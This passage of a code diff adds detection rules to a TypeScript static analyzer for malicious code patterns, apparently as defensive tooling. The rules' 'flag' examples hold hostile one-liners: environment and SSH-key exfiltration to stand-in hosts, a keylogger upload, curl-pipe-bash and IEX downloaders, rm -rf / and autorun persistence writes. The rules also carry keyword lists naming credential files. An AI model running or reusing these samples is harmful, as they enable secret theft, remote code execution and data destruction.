+        const inner = reverseShell(dec) ?? downloadExec(dec) ?? exfiltration(dec);
+        if (inner) return { detail: `base64-hidden ${inner}`, score: 9 };
+      }
+      return null;
+    },
+    examples: {
+      flag: ['eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlJyk="))', 'exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))', 'exec(bytes.fromhex("696d706f7274206f73").decode())', '<?php eval(gzinflate(base64_decode("7X1rc9s2lv2..."))); ?>'],
+      pass: ['const img = "data:image/png;base64," + btoa(bytes);', 'payload = base64.b64encode(json.dumps(body).encode())', 'const text = atob(encoded); console.log(text);'],
+    },
+  },
+  {
+    id: 'G09',
+    name: 'SQL query built from string interpolation',
+    primitive: 'EXFILTRATION',
+    score: 5,
+    keywords: ['select', 'insert', 'update', 'delete', 'replace', 'merge'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      SQL_START.lastIndex = 0;
+      let m: RegExpExecArray | null;
+      let n = 0;
+      let found = false;
+      while (n++ < 64 && (m = SQL_START.exec(t)) !== null) {
+        const from = m.index + m[0].length;
+        const win = t.slice(from, from + 400);
+        const head = m[0].toLowerCase();
+        const isF = head.startsWith('f');
+        const line = lineOf(win, 260);
+        if (!sqlShaped(head, line.toLowerCase())) continue;
+        const lead = t.slice(Math.max(0, m.index - 24), m.index).toLowerCase();
+        const formatted = SQL_FORMATTER.test(lead) && line.includes('%');
+        if (!formatted && !(isF ? line.includes('{') : SQL_INTERP.some((re) => re.test(line)))) continue;
+        found = true;
+        const before = t.slice(Math.max(0, m.index - 200), m.index);
+        const semi = win.indexOf(';');
+        const stmt = win.slice(0, semi === -1 ? 300 : Math.min(300, semi));
+        if (isSource(stmt) || isSource(before) || hasTainted(stmt, ctx.tainted)) { SQL_START.lastIndex = 0; return { detail: 'SQL string concatenated with request/user input', score: 8 }; }
+      }
+      SQL_START.lastIndex = 0;
+      return found ? 'SQL string built by interpolation instead of bound parameters' : null;
+    },
+    examples: {
+      flag: ['cursor.execute("SELECT * FROM users WHERE name = \'" + request.args["name"] + "\'")', 'db.query(`SELECT * FROM orders WHERE id = ${req.params.id}`)', '$r = mysqli_query($c, "SELECT * FROM t WHERE id = \'$_GET[id]\'");'],
+      pass: ['cursor.execute("SELECT * FROM users WHERE name = %s", (name,))', 'db.query("SELECT * FROM orders WHERE id = $1", [req.params.id])', 'const q = "SELECT id FROM users";'],
+    },
+  },
+  {
+    id: 'G10',
+    name: 'TLS certificate verification disabled',
+    primitive: 'MANIPULATION',
+    score: 5,
+    keywords: ['verify', 'rejectunauthorized', 'node_tls_reject_unauthorized', 'insecureskipverify', 'unverified_context', 'cert_none', 'check_hostname', 'curlopt_ssl', 'servercertificatevalidationcallback', 'verify_none', 'strictssl', 'trustallcerts', 'accept_all_certs', 'acceptallcerts', 'danger_accept_invalid_certs', 'hostnameverifier', 'sslverify'],
+    detect: (ctx) => {
+      for (const re of TLS_OFF) {
+        const m = re.exec(ctx.text);
+        if (m) return `certificate checks turned off (${m[0].slice(0, 60)})`;
+      }
+      return null;
+    },
+    examples: {
+      flag: ['requests.get(url, verify=False)', 'https.request({ host, rejectUnauthorized: false })', 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";', 'tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}'],
+      pass: ['requests.get(url, verify=True, timeout=10)', 'https.request({ host, rejectUnauthorized: true })', 'requests.get(url, verify="/etc/ssl/certs/ca.pem")'],
+    },
+  },
+  {
+    id: 'G11',
+    name: 'Keylogger or screen capture sent off the machine',
+    primitive: 'EXFILTRATION',
+    score: 8,
+    keywords: ['pynput', 'keyboard.', 'getasynckeystate', 'setwindowshookex', 'wh_keyboard', 'iohook', 'cgeventtapcreate', '/dev/input/event', 'xinput', 'keydown', 'keypress', 'keyup', 'onkey', 'imagegrab', 'screenshot', 'mss(', 'copyfromscreen', 'getdisplaymedia', 'screencapture', 'desktopcapturer'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      const net = NETWORK.test(t);
+      if (KEYHOOK.test(t)) return net ? 'system-wide keystroke hook with network upload' : { detail: 'system-wide keystroke hook', score: 7 };
+      if (DOM_KEYS.test(t) && net && PASSWORD_FIELD.test(t)) return 'keystrokes (incl. password fields) sent to a server';
+      if (SCREEN.test(t) && net) return { detail: 'screen capture uploaded', score: 7 };
+      return null;
+    },
+    examples: {
+      flag: ['from pynput import keyboard\ndef on_press(k):\n    requests.post("http://203.0.113.4/k", data=str(k))', 'img = ImageGrab.grab()\nimg.save("s.png")\nrequests.post(URL, files={"f": open("s.png","rb")})'],
+      pass: ['input.addEventListener("keydown", (e) => { if (e.key === "Enter") submit(); });', 'await page.screenshot({ path: "home.png" });'],
+    },
+  },
+  {
+    id: 'G12',
+    name: 'Credential or environment exfiltration',
+    primitive: 'EXFILTRATION',
+    score: 9,
+    keywords: ['cookie', 'localstorage', 'sessionstorage', 'env', 'environ', 'getenv', 'getenvironmentvariables', '.ssh', '.aws', 'shadow', 'git-credentials', 'npmrc', '.kube', '.docker', 'netrc', 'login data', 'logins.json', 'key4.db', 'wallet.dat', 'tojson'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      const net = NETWORK.test(t);
+      const x = exfiltration(t);
+      if (x && (x !== 'whole environment serialised' || net)) return x === 'whole environment serialised' ? 'whole environment serialised and sent over the network' : x;
+      if (probe(t, BROWSER_SEND)) return { detail: 'document.cookie / localStorage sent in a network request', score: 8 };
+      const cred = CRED_FILE.exec(t);
+      if (cred) {
+        const what = cred[0].replace(/["'\s)]/g, '');
+        const host = exfilHost(t);
+        if (net) return { detail: `reads ${what} and sends data over the network${host ? ` (${host})` : ''}`, score: 9 };
+        return { detail: `reads credential file ${what}`, score: 5 };
+      }
+      return null;
+    },
+    examples: {
+      flag: ['requests.post("https://webhook.site/x", json=dict(os.environ))', 'fetch("https://collect.example/e", { method: "POST", body: JSON.stringify(process.env) })', 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("http://198.51.100.2/", data=key)'],
+      pass: ['const port = process.env.PORT || 3000;', 'db_url = os.environ["DATABASE_URL"]', 'dotenv.config({ path: ".env.example" })'],
+    },
+  },
+  {
+    id: 'G13',
+    name: 'Destructive file-system operation on a root or home directory',
+    primitive: 'DESTRUCTION',
+    score: 9,
+    keywords: ['rmtree', 'rmsync', 'rmdirsync', 'rimraf', 'rm_rf', 'rm_r', 'remove_dir_all', 'removeall', 'directory.delete', 'fs.rm', 'deletedirectory', 'forcedelete', 'deletequietly', 'rm ', 'format ', 'mkfs', 'dd if=', 'cipher', 'vssadmin', 'shadowcopy', 'bcdedit', 'os.walk'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      for (let i = 0; i < DESTRUCT.length; i++) {
+        const m = DESTRUCT[i]!.exec(t);
+        if (m === null) continue;
+        if (i === 3) { if (WALK_DELETE.test(t)) return 'walks the whole file system deleting/encrypting files'; continue; }
+        return `wipes ${m[0].slice(0, 60)}`;
+      }
+      return null;
+    },
+    examples: {
+      flag: ['shutil.rmtree("/")', 'fs.rmSync("/", { recursive: true, force: true })', 'os.system("rm -rf / --no-preserve-root")', 'shutil.rmtree(os.path.expanduser("~"))'],
+      pass: ['shutil.rmtree("build")', 'fs.rmSync("dist", { recursive: true, force: true })', 'execSync("rm -rf ./node_modules")', 'rimraf("/tmp/cache-" + id)'],
+    },
+  },
+  {
+    id: 'G14',
+    name: 'Hard-coded live secret',
+    primitive: 'EXFILTRATION',
+    score: 5,
+    keywords: ['private key', 'akia', 'asia', 'aws_secret_access_key', 'ghp_', 'gho_', 'ghu_', 'ghs_', 'ghr_', 'github_pat_', 'glpat-', 'xox', '_live_', 'aiza', 'sk-', 'npm_', 'sg.'],
+    detect: (ctx) => {
+      const k = secretShape(ctx.text);
+      return k ? `${k} embedded in source` : null;
+    },
+    examples: {
+      flag: ['const stripe = new Stripe("sk_live_51HxQ2mK8vT3nR7pL4wZ9yB6c");', 'GITHUB_TOKEN = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"'],
+      pass: ['const stripe = new Stripe(process.env.STRIPE_KEY);', 'AWS_KEY = "AKIAIOSFODNN7EXAMPLE"  # docs example'],
+    },
+  },
+  {
+    id: 'G15',
+    name: 'Downloaded code executed',
+    primitive: 'ESCALATION',
+    score: 9,
+    keywords: ['exec', 'eval', 'function', 'vm.run', 'iex', 'invoke-expression', 'require', 'import', 'curl', 'wget', 'iwr', 'invoke-webrequest', 'downloadstring'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      if (REMOTE_EXECS.some((p) => probe(t, p))) return 'code fetched over the network is evaluated';
+      const d = downloadExec(t);
+      if (d) {
+        if (WELL_KNOWN_INSTALLER.test(t) && exfilHost(t) === null) return { detail: `${d} from a well-known vendor installer`, score: 4 };
+        return d;
+      }
+      return null;
+    },
+    examples: {
+      flag: ['exec(requests.get("http://203.0.113.9/p.py").text)', 'eval(await (await fetch(url)).text())', 'os.system("curl -s http://198.51.100.7/x.sh | bash")', 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.3/a.ps1")'],
+      pass: ['const res = await fetch(url); const data = await res.json();', 'r = requests.get(url); r.raise_for_status()', 'subprocess.run(["curl", "-o", "out.tar.gz", url])'],
+    },
+  },
+  {
+    id: 'G16',
+    name: 'Code installs itself to run automatically',
+    primitive: 'PERSISTENCE',
+    score: 8,
+    keywords: ['authorized_keys', 'bashrc', 'zshrc', 'bash_profile', '.profile', '/etc/cron', 'spool/cron', 'systemd/system', 'launchagents', 'launchdaemons', 'currentversion', 'startup', 'rc.local', 'ld.so.preload', '.git/hooks', 'sudoers', 'crontab', 'schtasks', 'systemctl enable'],
+    detect: (ctx) => {
+      const t = ctx.text;
+      if (probe(t, AUTORUN_WRITE)) return 'writes to an autorun location (cron, rc file, authorized_keys, Run key…)';
+      const m = CRONTAB_PIPE.exec(t);
+      if (m && SHELLISH.test(t)) return { detail: `registers a scheduled task (${m[0].trim().slice(0, 40)})`, score: 7 };
+      return null;
+    },
+    examples: {
+      flag: ['with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write(KEY)', 'fs.appendFileSync(os.homedir() + "/.bashrc", "\\nnode ~/.x/agent.js &\\n")', 'os.system("(crontab -l; echo \'@reboot /tmp/x\') | crontab -")'],
+      pass: ['with open("README.md", "a") as f:\n    f.write("## Usage")', 'const cron = require("node-cron"); cron.schedule("* * * * *", job);'],
+    },
+  },
+];
+
+const codeAnalyzer: Analyzer<CodeContext> = {
   type: 'code',
   letter: 'G',
-  prepare: plainContext,
-  rules: [],
+  prepare,
+  rules,
+  auxPatterns: [
+    ...PAYLOAD_PATTERNS, CR, ...SOURCES, ...probePatterns([EVAL_SINK, ...SHELL_SINKS, ...DYNAMIC_SHELLS, PRIV_GRANT, ...REMOTE_EXECS, AUTORUN_WRITE, OBFUSCATED_CHARS]), SQL_START, ...SQL_INTERP, SQL_FORMATTER, ...TLS_OFF,
+    CONCAT_AFTER_STRING, FORMAT_CALL, VAR_THEN_PLUS, VAR_FIRST_ARG, SHELL_TRUE, REMOTE_FETCH,
+    PICKLE, YAML_LOAD, YAML_SAFE_LOADER, JAVA_OIS, DOTNET_DESER, PHP_UNSERIALIZE, PHP_ALLOWED_FALSE, NODE_SERIALIZE, RUBY_MARSHAL, ...CRED_CHECKS, BACKDOOR_WORD,
+    NOT_CREDENTIAL, KEYHOOK, DOM_KEYS, SCREEN, NETWORK, PASSWORD_FIELD, BROWSER_SECRET, ...probePatterns([BROWSER_SEND]), CRED_FILE, ...DESTRUCT, WALK_DELETE, CRONTAB_PIPE,
+    CHARCODE_CHAIN, CHARCODE_EXEC, SHELLISH, /\s|\(/g, /getinputstream|socket|request|readobject/i, /\.unserialize\s{0,4}\(/i, / or /, /["'\s)]/g,
+  ],
 };
 export default codeAnalyzer;
